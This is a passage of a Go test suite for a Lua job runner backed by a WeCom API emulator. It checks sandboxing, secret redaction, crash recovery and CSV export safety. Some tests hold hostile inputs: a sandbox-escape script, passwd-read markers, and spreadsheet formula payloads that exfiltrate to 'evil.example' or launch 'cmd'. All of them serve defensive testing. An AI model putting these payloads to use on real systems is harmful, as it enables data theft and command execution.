			print(#s)`, args: []string{"--timeout", "60s"}, stderr: []string{"script.lua:3:", "exceeds the limit"}},
		{name: "growing a table", src: `
			local t = {}
			while true do t[#t + 1] = string.rep("x", 4096) .. #t end`, args: []string{"--timeout", "60s", "--memory-limit", "128MiB"},
			stderr: []string{"out of memory"}, memory: true}, // a small limit: a busy machine reaches it long before the timeout
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !tt.memory {
				t.Parallel()
			}
			r := newRelRig(t)
			if tt.setup != nil {
				tt.setup(t, r.dir)
			}
			run := r.exec(t, tt.src, tt.args...)
			relWantRun(t, run, 1, append([]string{"runner: "}, tt.stderr...)...)
			for _, leak := range []string{"outside-content-d41d8c", "root:x:0:0"} {
				if strings.Contains(run.stdout+run.stderr, leak) {
					t.Errorf("the script read a file outside its directory:\n%s%s", run.stdout, run.stderr)
				}
			}
			if _, err := os.Stat(filepath.Join(r.dir, "pwned")); err == nil {
				t.Error("os.execute ran a command")
			}
			if _, err := os.Stat(filepath.Join(filepath.Dir(r.dir), "x.csv")); err == nil {
				t.Error("csv.write wrote outside the allowed directory")
			}
			if tt.outside != "" {
				if _, err := os.Stat(filepath.Join(outside, tt.outside)); err == nil {
					t.Errorf("the script wrote %s outside the allowed directory", tt.outside)
					os.Remove(filepath.Join(outside, tt.outside))
				}
			}
			if up := r.uploads(); len(up) != 0 {
				t.Errorf("the script uploaded: %v", up)
			}
			// The next run in the same place works.
			next := r.exec(t, `print(require("wecom").user.get("zhangsan").name)`)
			relWantRun(t, next, 0)
			if next.stdout != "张三\n" {
				t.Errorf("the next run printed %q", next.stdout)
			}
		})
	}
}

// relSymlink makes link point at target.
func relSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestReliabilitySecrets: the secrets and access tokens never appear in
// what runner prints, in text or JSON logs, whatever happens: success, API
// errors, transport errors, a refused gettoken, a dry run, and a script that
// looks for them. (Every run of this suite is checked as well; these are the
// runs most likely to print a credential.)
func TestReliabilitySecrets(t *testing.T) {
	t.Parallel()
	const lookAround = `
		local wecom = require("wecom")
		local json = require("json")
		local log = require("log")
		local seen = {}
		local function walk(v, depth)
			if depth > 4 or seen[v] then return end
			seen[v] = true
			if type(v) == "table" then
				for k, x in pairs(v) do print(tostring(k), tostring(x)); walk(x, depth + 1) end
			end
		end
		walk(wecom, 0)
		walk(wecom.client("default"), 0)
		print(tostring(wecom.client("contacts")))
		local ok, err = pcall(require("env").get, "WECOM_CONTACTS_SECRET")
		print("env.get", ok, tostring(err))
		log.info("a user", {user = wecom.user.get("zhangsan")})
		local ok, err = pcall(wecom.user.get, "nobody")
		log.error("failed", {err = err, text = tostring(err)})
		print(json.encode(err))
		wecom.department.create{name = "` + relDept + `", parent_id = 1}
	`
	tests := []struct {
		name   string
		inject func(s *emulator.Server)
		env    []string
		args   []string
		code   int
	}{
		{"text log", nil, nil, nil, 0},
		{"json log", nil, nil, []string{"--log-format", "json"}, 0},
		{"dry run", nil, nil, []string{"--dry-run", "--log-format", "json"}, 0},
		{"HTTP 502", func(s *emulator.Server) { s.FailNextHTTP("*", 100, 502) }, nil, []string{"--log-format", "json"}, 1},
		{"dropped connections", func(s *emulator.Server) { s.DropNext("*", 100) }, nil, nil, 1},
		{"expired tokens", func(s *emulator.Server) { s.FailNext("*", 100, 42001) }, nil, []string{"--log-format", "json"}, 1},
		{"wrong secret", nil, []string{"WECOM_CONTACTS_SECRET=SECRET-wrong-5e6f70-never-appear"}, nil, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t)
			r.mu.Lock()
			r.secrets = append(r.secrets, "SECRET-wrong-5e6f70-never-appear")
			r.mu.Unlock()
			if tt.inject != nil {
				tt.inject(r.srv)
			}
			p := r.script(t, "script.lua", lookAround)
			run := r.startEnv(t, tt.env, append(append([]string{"exec", "--client", "contacts"}, tt.args...), p)...).wait(t)
			if run.code != tt.code {
				t.Errorf("exit %d, want %d\n%s", run.code, tt.code, run.stderr)
			}
			if tt.code == 0 && !strings.Contains(run.stdout, "env.get\tfalse") {
				t.Errorf("env.get read a variable outside the allow-list:\n%s", run.stdout)
			}
		})
	}
}

// relReadAll reads a response body or fails the test.
func relReadAll(t *testing.T, r io.Reader) string {
	t.Helper()
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// relClients is the clients: section of the suite's jobs files: the
// emulator's, from the environment.
const relClients = `clients:
  contacts:
    corp_id: "${WECOM_CORP_ID}"
    secret: "${WECOM_CONTACTS_SECRET}"
    base_url: "${WECOM_BASE_URL}"
  notify:
    corp_id: "${WECOM_CORP_ID}"
    secret: "${WECOM_SECRET}"
    agent_id: 1000002
    base_url: "${WECOM_BASE_URL}"
`

// statusURL finds the status page's address in serve's log.
var statusURL = regexp.MustCompile(`msg="status page" url=(\S+)`)

// serve starts runner serve on the rig's jobs.yaml with a status page on a
// free port, and returns the process and the page's URL.
func (r *relRig) serve(t *testing.T) (*relProc, string) {
	t.Helper()
	p := r.start(t, "serve", "--listen", "127.0.0.1:0")
	var url string
	relWait(t, "serve's status page", func() bool {
		if m := statusURL.FindStringSubmatch(p.errOut.String()); m != nil {
			url = m[1]
			return true
		}
		if !p.running() {
			t.Fatalf("serve exited:\n%s", p.errOut)
		}
		return false
	})
	return p, url
}

// get fetches url and checks the answer for secrets.
func (r *relRig) get(t *testing.T, url string) string {
	t.Helper()
	res, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body := relReadAll(t, res.Body)
	if res.StatusCode != http.StatusOK {
		t.Errorf("GET %s: %s\n%s", url, res.Status, body)
	}
	r.assertNoSecrets(t, url, body)
	return body
}

// history is the output of runner jobs history for job, all runs kept.
func (r *relRig) history(t *testing.T, job string) string {
	t.Helper()
	run := r.run(t, "jobs", "history", "--limit", "0", job)
	relWantRun(t, run, 0)
	return run.stdout
}

// historyLines returns the lines of history (the header left out) whose
// trigger is trigger.
func historyLines(history, trigger string) []string {
	var out []string
	for _, line := range strings.Split(strings.TrimSpace(history), "\n")[1:] {
		if f := strings.Fields(line); len(f) > 1 && f[1] == trigger {
			out = append(out, line)
		}
	}
	return out
}

// TestReliabilityKilledServe kills runner serve with SIGKILL during a run and
// restarts it after a firing was missed: the run in progress is recorded as
// interrupted, the schedule goes on, and the missed firing is caught up or
// skipped as each job's policy says.
func TestReliabilityKilledServe(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	// Every job fires at two seconds of each minute, S1 and S2 = S1+10s: the
	// runner is killed during the S1 run of long, and restarted more than
	// the on-time tolerance (10 s) after S2, which it missed. The margins
	// leave a busy machine seconds to start runner and finish the S1 runs.
	s1At := time.Now().Truncate(time.Second).Add(15 * time.Second)
	s2At := s1At.Add(10 * time.Second)
	s1, s2 := s1At.Second(), s2At.Second()
	schedule := fmt.Sprintf("%d,%d * * * * *", s1, s2)
	r.jobsFile(t, "grace: 5s\n", `  - name: long
    schedule: "`+schedule+`"
    script: long.lua
    client: contacts
    catchup: once
  - name: skipper
    schedule: "`+schedule+`"
    script: quick.lua
    client: contacts
    catchup: skip
  - name: late
    schedule: "`+schedule+`"
    script: quick.lua
    client: contacts
    catchup: once
    starting_deadline: 5s
`)
	// The first run of long sleeps until it is killed; the next ones end
	// at once.
	r.script(t, "long.lua", `
		local fs = require("fs")
		local first = not fs.exists("slept")
		fs.write("slept", "")
		require("log").info("long started", {user = require("wecom").user.get("zhangsan").userid})
		if first then require("time").sleep(600) end
	`)
	r.script(t, "quick.lua", `require("wecom").user.get("lisi")`)

	first, _ := r.serve(t)
	// Kill it once the S1 runs of skipper and late have finished, and
	// while long's runs.
	relWait(t, "the S1 runs", func() bool {
		log := first.errOut.String()
		return strings.Contains(log, `msg="long started"`) &&
			strings.Contains(log, `msg="run finished" job=skipper`) && strings.Contains(log, `msg="run finished" job=late`)
	})
	if killedAt := time.Now(); !killedAt.Before(s2At) {
		t.Fatalf("the S1 runs ended at %s, after S2 (%s)", killedAt.Format(time.TimeOnly), s2At.Format(time.TimeOnly))
	}
	first.kill(t)

	// Wait for S2 to pass unseen, and for the on-time tolerance after it.
	time.Sleep(time.Until(s2At.Add(11 * time.Second)))
	second, url := r.serve(t)
	defer func() {
		if t.Failed() {
			t.Logf("first:\n%s\nsecond:\n%s", first.errOut, second.errOut)
		}
	}()
	relWait(t, "the catch-up run of long", func() bool {
		return regexp.MustCompile(`msg="run finished" job=long .* result=ok`).MatchString(second.errOut.String()) &&
			strings.Count(second.errOut.String(), `msg="run skipped"`) >= 2
	})
	log := second.errOut.String()
	if !strings.Contains(log, `msg="run marked interrupted" job=long`) {
		t.Errorf("the restarted runner did not mark the killed run interrupted:\n%s", log)
	}
	// The runs that had finished, and said so, keep their result.
	for _, job := range []string{"skipper", "late"} {
		if strings.Contains(log, `msg="run marked interrupted" job=`+job) {
			t.Errorf("%s's finished run was marked interrupted:\n%s", job, log)
		}
	}
	status := r.get(t, url)
	relWantRun(t, second.stop(t), 0)

	long := r.history(t, "long")
	scheduled, caught := historyLines(long, "schedule"), historyLines(long, "catchup")
	if len(scheduled) != 1 || !strings.Contains(scheduled[0], "interrupted: the runner (") || !strings.Contains(scheduled[0], "stopped during the run") {
		t.Errorf("long: the killed run is not recorded as interrupted:\n%s", long)
	}
	if len(caught) != 1 || !strings.HasSuffix(caught[0], " ok") {
		t.Errorf("long (catchup: once): want one catch-up run, ok:\n%s", long)
	}
	skipper := r.history(t, "skipper")
	if on := historyLines(skipper, "schedule"); len(on) == 0 || !strings.HasSuffix(on[len(on)-1], " ok") {
		t.Errorf("skipper: the run before the kill is not ok:\n%s", skipper)
	}
	if len(historyLines(skipper, "catchup")) != 0 || !strings.Contains(skipper, "skipped: missed by") || !strings.Contains(skipper, "(catchup: skip)") {
		t.Errorf("skipper (catchup: skip): want the missed firing skipped:\n%s", skipper)
	}
	late := r.history(t, "late")
	if len(historyLines(late, "catchup")) != 0 || !strings.Contains(late, "more than starting_deadline 5s") {
		t.Errorf("late (starting_deadline: 5s): want the missed firing skipped:\n%s", late)
	}
	// The schedule is intact: each job has its next run at S1 or S2.
	list := r.run(t, "jobs", "list")
	relWantRun(t, list, 0)
	for _, job := range []string{"long", "skipper", "late"} {
		row := regexp.MustCompile(`(?m)^` + job + `\s+` + regexp.QuoteMeta(schedule) + `\s+UTC\s+\w{3} \S+ \d\d:\d\d:(\d\d) UTC`).FindStringSubmatch(list.stdout)
		if row == nil || (row[1] != fmt.Sprintf("%02d", s1) && row[1] != fmt.Sprintf("%02d", s2)) {
			t.Errorf("jobs list: %s has no next run at second %d or %d:\n%s", job, s1, s2, list.stdout)
		}
	}
	if !strings.Contains(status, `href="/jobs/long"`) {
		t.Errorf("the status page lacks long:\n%s", status)
	}
}

// TestReliabilityBadJobsFile: a jobs file with a problem is reported with
// its file and line by runner validate, runner serve, runner jobs run and
// runner exec --config, with exit code 2, before anything runs: the
// emulator sees no call, not even gettoken.
func TestReliabilityBadJobsFile(t *testing.T) {
	t.Parallel()
	// The good job would call WeCom every second if anything ran.
	const head = "timezone: UTC\n" + relClients + `jobs:
  - name: good
    schedule: "* * * * * *"
    script: good.lua
    client: contacts
`
	const headLines = 16 // the bad job starts on line 17
	tests := []struct {
		name  string
		job   string // the bad job, from line 19
		where string // the file:line reported
		what  string
	}{
		{"YAML syntax", "  - name: bad\n    schedule: [\n    script: good.lua\n", "jobs.yaml:17:", "did not find expected"},
		{"unknown field", "  - name: bad\n    shedule: \"@daily\"\n    script: good.lua\n", "jobs.yaml:18:", `unknown field "shedule"`},
		{"TZ= spec", "  - name: bad\n    schedule: \"TZ=0 * * * *\"\n    script: good.lua\n", "jobs.yaml:18:", "schedule"},
		{"CRON_TZ= spec", "  - name: bad\n    schedule: \"CRON_TZ=Nope 0 2 * * *\"\n    script: good.lua\n", "jobs.yaml:18:", "schedule"},
		{"bad spec", "  - name: bad\n    schedule: \"60 * * * *\"\n    script: good.lua\n", "jobs.yaml:18:", "schedule"},
		{"never fires", "  - name: bad\n    schedule: \"0 0 30 2 *\"\n    script: good.lua\n", "jobs.yaml:18:", "never fires"},
		{"unknown time zone", "  - name: bad\n    schedule: \"@daily\"\n    timezone: Mars/Olympus\n    script: good.lua\n", "jobs.yaml:19:", "Mars/Olympus"},
		{"missing script", "  - name: bad\n    schedule: \"@daily\"\n    script: nope.lua\n", "jobs.yaml:19:", "nope.lua"},
		{"script is a device", "  - name: bad\n    schedule: \"@daily\"\n    script: /dev/zero\n", "jobs.yaml:19:", "not a regular file"},
		{"Lua syntax error", "  - name: bad\n    schedule: \"@daily\"\n    script: bad.lua\n", "bad.lua:2:", ""},
		{"duplicate name", "  - name: good\n    schedule: \"@daily\"\n    script: good.lua\n", "jobs.yaml:17:", "good"},
		{"unset secret", "  - name: bad\n    schedule: \"@daily\"\n    script: good.lua\n    client: other\n", "jobs.yaml:", "RELIABILITY_UNSET"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t)
			file := head + tt.job
			if tt.name == "unset secret" {
				file = strings.Replace(file, "jobs:\n", "  other: {corp_id: \"${WECOM_CORP_ID}\", secret: \"${RELIABILITY_UNSET}\"}\njobs:\n", 1)
				tt.where = "jobs.yaml:12:"
			}
			if n := strings.Count(head, "\n"); n != headLines {
				t.Fatalf("the head has %d lines", n)
			}
			r.write(t, "jobs.yaml", []byte(file))
			r.script(t, "good.lua", `require("wecom").user.get("zhangsan")`)
			r.script(t, "bad.lua", "local wecom = require(\"wecom\")\nlocal = 1\n")
			calls := func() int { return len(r.srv.Requests()) - r.ownCalls() }
			before := calls()

			for _, args := range [][]string{
				{"validate"},
				{"serve", "--listen", "127.0.0.1:0"},
				{"jobs", "run", "good"},
				{"exec", "--config", "jobs.yaml", "good.lua"},
			} {
				run := r.run(t, args...)
				out := run.stdout + run.stderr
				if run.code != 2 || !strings.Contains(out, tt.where) || !strings.Contains(out, tt.what) {
					t.Errorf("runner %s: exit %d, want 2 and %q %q:\n%s", strings.Join(args, " "), run.code, tt.where, tt.what, out)
				}
			}
			if n := calls() - before; n != 0 || r.tokenFetches() != 0 {
				t.Errorf("%d API calls and %d gettoken reached the emulator: %v", n, r.tokenFetches(), r.srv.Requests())
			}
		})
	}
}

// ownCalls is how many requests the test itself made: its gettoken calls.
func (r *relRig) ownCalls() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.ownTokens
}

// TestReliabilitySecretsServe runs jobs under runner serve with the suite's
// recognisable secrets, through success, an API error and transport
// errors, then looks for the secrets and the access tokens in everything
// runner shows: serve's log (text and JSON), the status pages, /metrics,
// runner jobs list, history and run logs, and runner validate.
func TestReliabilitySecretsServe(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t)
			r.jobsFile(t, "", `  - name: report
    schedule: "* * * * * *"
    script: report.lua
    client: notify
  - name: failing
    schedule: "* * * * * *"
    script: failing.lua
    client: contacts
    retries: {max: 1, backoff: 1s}
`)
			r.script(t, "report.lua", `
				local wecom = require("wecom")
				local u = wecom.user.get("zhangsan")
				require("log").info("member", {member = u})
				wecom.message.send_text{user_ids = {"zhangsan"}, content = "日报"}
				print("sent to", u.name)
			`)
			r.script(t, "failing.lua", `
				local wecom = require("wecom")
				local ok, err = pcall(wecom.user.get, "nobody")
				require("log").warn("lookup failed", {err = err})
				wecom.department.create{name = "`+relDept+`", parent_id = 1}
			`)
			// Every call of failing's department/create fails: WeCom busy,
			// a 502, a dropped connection, an expired token.
			r.srv.FailNext("department/create", 3, -1)
			r.srv.FailNextHTTP("department/create", 3, 502)
			r.srv.DropNext("department/create", 1)
			r.srv.FailNext("department/create", 2, 42001)

			p := r.start(t, "serve", "--listen", "127.0.0.1:0", "--log-format", format)
			var url string
			urlRe := statusURL
			if format == "json" {
				urlRe = regexp.MustCompile(`"msg":"status page","url":"([^"]+)"`)
			}
			relWait(t, "runs of both jobs", func() bool {
				log := p.errOut.String()
				if m := urlRe.FindStringSubmatch(log); m != nil {
					url = m[1]
				}
				return url != "" && strings.Count(log, "run finished") >= 6 && len(r.calls("department/create")) >= 9
			})
			runPages := 0
			for _, page := range []string{url, url + "metrics", url + "jobs/report", url + "jobs/failing"} {
				body := r.get(t, page)
				for _, href := range regexp.MustCompile(`href="(/jobs/[^/"]+/runs/[^"]+)"`).FindAllStringSubmatch(body, 4) {
					r.get(t, strings.TrimSuffix(url, "/")+href[1])
					runPages++
				}
			}
			if runPages < 4 {
				t.Errorf("the status pages link to %d runs", runPages)
			}
			if m := r.get(t, url+"metrics"); !strings.Contains(m, `job="failing"`) {
				t.Errorf("/metrics lacks the failing job:\n%s", m)
			}
			relWantRun(t, p.stop(t), 0)

			for _, job := range []string{"report", "failing"} {
				history := r.history(t, job)
				r.assertNoSecrets(t, "jobs history "+job, history)
				for _, line := range strings.Split(strings.TrimSpace(history), "\n")[1:] {
					id := strings.Fields(line)[0]
					r.run(t, "jobs", "history", job, "--log", id) // checked by wait
				}
			}
			if h := r.history(t, "failing"); !strings.Contains(h, "failed") {
				t.Errorf("failing did not fail:\n%s", h)
			}
			r.run(t, "jobs", "list")
			relWantRun(t, r.run(t, "validate"), 0)
			// The state file caches access tokens (mode 0600), never secrets.
			state, err := os.ReadFile(filepath.Join(r.dir, ".runner/state.db"))
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range []string{relContactsSecret, relOpsSecret, relReportSecret} {
				if bytes.Contains(state, []byte(s)) {
					t.Errorf("the state file holds the secret %.12s…", s)
				}
			}
		})
	}
}

// TestReliabilityRunAfterRunaway runs a job that exhausts the memory, then a
// job that exhausts the stack, then a good job, in one process (runner jobs
// run): the runaway runs fail, the process survives, and the good run works.
func TestReliabilityRunAfterRunaway(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	// A small memory limit: a busy machine reaches it long before the timeout.
	r.jobsFile(t, "memory_limit: 128MiB\n", `  - {name: hog, schedule: "@daily", script: hog.lua, client: contacts}
  - {name: deep, schedule: "@daily", script: deep.lua, client: contacts}
  - {name: good, schedule: "@daily", script: good.lua, client: contacts}
`)
	r.script(t, "hog.lua", "local t = {}\nwhile true do t[#t + 1] = string.rep(\"x\", 4096) .. #t end\n")
	r.script(t, "deep.lua", "local function f() return coroutine.wrap(f)() end\nf()\n")
	r.script(t, "good.lua", `print(require("wecom").user.get("zhangsan").name)`)
	run := r.run(t, "jobs", "run", "hog", "deep", "good")
	relWantRun(t, run, 1, "runs did not succeed: hog (failed), deep (failed)")
	wantContains(t, "stdout", run.stdout, "hog ", ": failed at ", "out of memory", "deep ", "coroutines nested", "good ", ": ok at ")
	if !strings.Contains(run.stdout, "张三\n") {
		t.Errorf("the good run did not print:\n%s", run.stdout)
	}
}

// TestReliabilityScriptCannotWidenItsSandbox: a job whose dirs name the
// configuration's own directory (where its script is) and data/ tries to give itself the secrets and the
// whole disk by rewriting jobs.yaml, to rewrite its script, and to read or
// overwrite the state with every client's access token: each is refused,
// and the next run has no more than before. A job with the default dirs
// writes in data/ beside jobs.yaml and cannot reach jobs.yaml. A reload
// that widens dirs or env (the admin's edit) is logged as a warning and
// shown on the status page.
func TestReliabilityScriptCannotWidenItsSandbox(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	jobs := r.jobsFile(t, "dirs: [., data]\n", `  - {name: attack, schedule: "@daily", script: attack.lua, client: contacts}`)
	if err := os.Mkdir(filepath.Join(r.dir, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.script(t, "attack.lua", `
		local fs = require("fs")
		require("wecom").user.get("zhangsan") -- an access token in the state
		local results = {}
		local function try(name, f, ...)
			local ok, err = pcall(f, ...)
			results[#results + 1] = name .. "=" .. (ok and "ok" or "refused")
			if not ok then print(err) end
		end
		local old = fs.read("jobs.yaml")
		try("config", fs.write, "jobs.yaml", "env: [WECOM_SECRET]\ndirs: [/]\n" .. old)
		try("script", fs.write, "attack.lua", "print('rewritten')")
		try("state-read", fs.read, ".runner/state.db")
		try("state-list", fs.list, ".runner")
		try("state-write", fs.write, ".runner/state.db", "x")
		try("beside", fs.write, "report.txt", "ok")
		try("report", fs.write, "data/report.txt", "ok")
		print(table.concat(results, " "))
		print("secret=" .. (pcall(require("env").get, "WECOM_SECRET") and "readable" or "refused"))
	`)
	state := filepath.Join(r.dir, ".runner", "state.db")
	for i := 0; i < 2; i++ {
		run := r.run(t, "jobs", "run", "attack")
		relWantRun(t, run, 0)
		if !strings.Contains(run.stdout, "config=refused script=refused state-read=refused state-list=refused state-write=refused beside=refused report=ok\nsecret=refused\n") {
			t.Fatalf("run %d:\n%s", i+1, run.stdout)
		}
		for _, want := range []string{"which scripts may read but not change", "the runner's state"} {
			if !strings.Contains(run.stdout, want) {
				t.Errorf("the refusals do not say %q:\n%s", want, run.stdout)
			}
		}
	}
	if b, _ := os.ReadFile(filepath.Join(r.dir, "jobs.yaml")); string(b) != jobs {
		t.Errorf("jobs.yaml was changed:\n%s", b)
	}
	if b, _ := os.ReadFile(filepath.Join(r.dir, "attack.lua")); strings.HasPrefix(string(b), "print('rewritten')") {
		t.Error("the script rewrote itself")
	}
	if b, err := os.ReadFile(state); err != nil || len(b) < 4096 {
		t.Errorf("the state file was overwritten (%d bytes, %v)", len(b), err)
	}

	// The default dirs: data/ beside jobs.yaml, created on the first write;
	// jobs.yaml is outside.
	if err := os.RemoveAll(filepath.Join(r.dir, "data")); err != nil {
		t.Fatal(err)
	}
	r.jobsFile(t, "", `  - {name: attack, schedule: "@daily", script: attack.lua, client: contacts}`)
	r.script(t, "attack.lua", `
		local fs = require("fs")
		fs.write("out.txt", "written")
		print(pcall(fs.write, "../jobs.yaml", "dirs: [/]"))`)
	run := r.run(t, "jobs", "run", "attack")
	relWantRun(t, run, 0)
	if !strings.Contains(run.stdout, "false") || !strings.Contains(run.stdout, "outside the allowed directories") {
		t.Errorf("writing ../jobs.yaml from data/:\n%s", run.stdout)
	}
	if b, err := os.ReadFile(filepath.Join(r.dir, "data", "out.txt")); err != nil || string(b) != "written" {
		t.Errorf("data/out.txt = %q, %v", b, err)
	}

	// The admin widens dirs and env while serve runs.
	p, url := r.serve(t)
	r.jobsFile(t, "dirs: [data, /]\nenv: [HR_TOKEN]\n", `  - {name: attack, schedule: "@daily", script: attack.lua, client: contacts}`)
	relWait(t, "the widening reload", func() bool { return strings.Contains(p.errOut.String(), "RELOAD WIDENED") })
	log := p.errOut.String()
	wantContains(t, "serve's log", log, "level=WARN", "dirs: +/", "env: +HR_TOKEN")
	if page := r.get(t, url); !strings.Contains(page, "widened what scripts may do") || !strings.Contains(page, "HR_TOKEN") {
		t.Errorf("the status page does not show the widening:\n%s", page)
	}
	relWantRun(t, p.stop(t), 0)
}

// TestReliabilityLogBound: a run that prints 32 MB in short lines and 4 MB
// lines stores at most its log_limit (10 MB by default), ending with a marker;
// the state file stays small; runner jobs history --log and the status page
// show the log a page at a time.
func TestReliabilityLogBound(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	r.jobsFile(t, "", `  - {name: chatty, schedule: "@daily", script: chatty.lua, client: contacts}`)
	r.script(t, "chatty.lua", `
		local line = string.rep("x", 1000)
		for i = 1, 32 * 1024 do print(i, line) end
		local big = string.rep("y", 4 * 1024 * 1024)
		for i = 1, 8 do print(big) end
	`)
	run := r.run(t, "jobs", "run", "chatty")
	relWantRun(t, run, 0, `msg="the run's log reached its limit: later lines are not stored" job=chatty`, `log_limit="10 MB"`)
	if n := strings.Count(run.stdout, "\n"); n < 32*1024+8 {
		t.Errorf("runner jobs run printed %d lines, want every line the script printed", n)
	}
	id := strings.Fields(historyLines(r.history(t, "chatty"), "manual")[0])[0]

	all := r.run(t, "jobs", "history", "chatty", "--log", id, "--lines", "0")
	relWantRun(t, all, 0)
	lines := strings.Split(strings.TrimSuffix(all.stdout, "\n"), "\n")
	if len(all.stdout) > 10_000_000+1000 || len(all.stdout) < 9_000_000 {
		t.Errorf("the stored log holds %d bytes, want at most the 10 MB of log_limit", len(all.stdout))
	}
	if n := len(lines); n < 3 || !strings.HasPrefix(lines[n-2], "[log truncated: a run stores at most 10 MB (log_limit)") ||
		!regexp.MustCompile(`^\[\d+ more lines \(\d+ MB\) were not stored\]$`).MatchString(lines[n-1]) {
		t.Errorf("the log does not end with the marker and the summary:\n%.300s", lines[max(n-2, 0):])
	}
	page := r.run(t, "jobs", "history", "chatty", "--log", id)
	relWantRun(t, page, 0, fmt.Sprintf("runner: lines 1-1000 of %d; --from 1001 prints the next ones, --lines 0 all of them", len(lines)))
	if n := strings.Count(page.stdout, "\n"); n != 1000 {
		t.Errorf("runner jobs history --log printed %d lines, want a page of 1000", n)
	}
	tail := r.run(t, "jobs", "history", "chatty", "--log", id, "--from", strconv.Itoa(len(lines)-1), "--lines", "5")
	relWantRun(t, tail, 0)
	if want := strings.Join(lines[len(lines)-2:], "\n") + "\n"; tail.stdout != want || tail.stderr != "" {
		t.Errorf("--from %d: %q\n%s, want the last two lines", len(lines)-1, tail.stdout, tail.stderr)
	}
	state, err := os.Stat(filepath.Join(r.dir, ".runner/state.db"))
	if err != nil || state.Size() > 32<<20 {
		t.Errorf("the state file after 64 MB of output: %v bytes, %v; want at most 32 MB", state.Size(), err)
	}
	t.Logf("state file: %d bytes; stored log: %d bytes in %d lines", state.Size(), len(all.stdout), len(lines))

	p, url := r.serve(t)
	body := r.get(t, url+"jobs/chatty/runs/"+id)
	if len(body) > 1_200_000 || !regexp.MustCompile(fmt.Sprintf(`lines 1–(\d+) of %d ·\nfirst · previous ·\n<a href="\?from=(\d+)">next</a>`, len(lines))).MatchString(body) {
		t.Errorf("the run's page is %d bytes: %.300s", len(body), body[strings.Index(body, "<h2>Log"):])
	}
	body = r.get(t, fmt.Sprintf("%sjobs/chatty/runs/%s?from=%d", url, id, len(lines)-3))
	if !strings.Contains(body, "[log truncated: a run stores at most 10 MB") {
		t.Errorf("the last page lacks the marker: %.300s", body[strings.Index(body, "<h2>Log"):])
	}
	relWantRun(t, p.stop(t), 0)
}

// TestReliabilityHealthzStateFull: with a state file that cannot grow (a
// full disk, here a file size limit), the runs' logs cannot be stored and
// /healthz answers 503 with the reason.
func TestReliabilityHealthzStateFull(t *testing.T) {
	t.Parallel()
	prlimit, err := exec.LookPath("prlimit")
	if err != nil {
		t.Skip("prlimit (util-linux) is not installed")
	}
	r := newRelRig(t)
	r.jobsFile(t, "", `  - {name: chatty, schedule: "* * * * * *", script: chatty.lua, client: contacts}`)
	// bbolt grows its file by doubling: the size limit stops it at 1 MiB.
	r.script(t, "chatty.lua", `
		local line = string.rep("x", 1000)
		for i = 1, 3000 do print(i, line) end
	`)
	p, url := r.serve(t)
	if res, err := http.Get(url + "healthz"); err != nil || res.StatusCode != 200 {
		t.Fatalf("/healthz before the state is full: %v %v", res, err)
	}
	r.wrap = []string{prlimit, "--fsize=2000000", "--"}
	relWantRun(t, p.stop(t), 0)
	os.Remove(filepath.Join(r.dir, ".runner/state.db"))

	p, url = r.serve(t)
	var body string
	relWait(t, "/healthz to fail", func() bool {
		res, err := http.Get(url + "healthz")
		if err != nil {
			t.Fatal(err)
		}
		body = relReadAll(t, res.Body)
		res.Body.Close()
		return res.StatusCode == http.StatusServiceUnavailable
	})
	if !strings.HasPrefix(body, "degraded: a write to the state failed") || !strings.Contains(body, "file too large") {
		t.Errorf("/healthz = %q, want why", body)
	}
	r.assertNoSecrets(t, "/healthz", body)
	run := p.stop(t)
	relWantRun(t, run, 0, `msg="cannot store the run's log" job=chatty`)
}

// TestReliabilityCSVInjection: an export whose cells come from WeCom (a
// member named like a formula) is written so that a spreadsheet shows the
// text instead of running it, and a NUL byte is refused naming its row and
// column, with nothing written.
func TestReliabilityCSVInjection(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	r.jobsFile(t, "", `  - {name: export, schedule: "@daily", script: export.lua, client: contacts}`)
	r.script(t, "export.lua", `
		local csv = require("csv")
		local rows = {
			{userid = "zhangsan", name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", note = "@SUM(1+1)*cmd|' /C calc'!A0"},
			{userid = "lisi", name = "+1+1", note = "-2+3"},
			{userid = "wangwu", name = "\tx", note = "-5"},
		}
		csv.write("export.csv", rows, {header = {"userid", "name", "note"}, bom = true})
		csv.write("raw.csv", rows, {header = {"userid", "name", "note"}, raw = true})
		print("written")
		csv.write("nul.csv", {{userid = "a", name = "b"}, {userid = "c", name = "x\0y"}}, {header = {"userid", "name"}})
	`)
	run := r.run(t, "jobs", "run", "export")
	relWantRun(t, run, 1, `csv.write: rows[2]: name: a NUL byte cannot be written in a CSV cell`)
	if !strings.HasPrefix(run.stdout, "written\n") {
		t.Errorf("stdout = %q", run.stdout)
	}
	data := filepath.Join(r.dir, "data")
	export, err := os.ReadFile(filepath.Join(data, "export.csv"))
	if err != nil {
		t.Fatal(err)
	}
	want := "\xEF\xBB\xBFuserid,name,note\n" +
		`zhangsan,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0` + "\n" +
		"lisi,'+1+1,'-2+3\n" +
		"wangwu,'\tx,-5\n"
	if string(export) != want {
		t.Errorf("export.csv =\n%q\nwant\n%q", export, want)
	}
	if raw, _ := os.ReadFile(filepath.Join(data, "raw.csv")); !strings.Contains(string(raw), "lisi,+1+1,-2+3\n") {
		t.Errorf("raw.csv changed the cells:\n%s", raw)
	}
	if _, err := os.Stat(filepath.Join(data, "nul.csv")); err == nil {
		t.Error("a file with a NUL byte was written")
	}
}

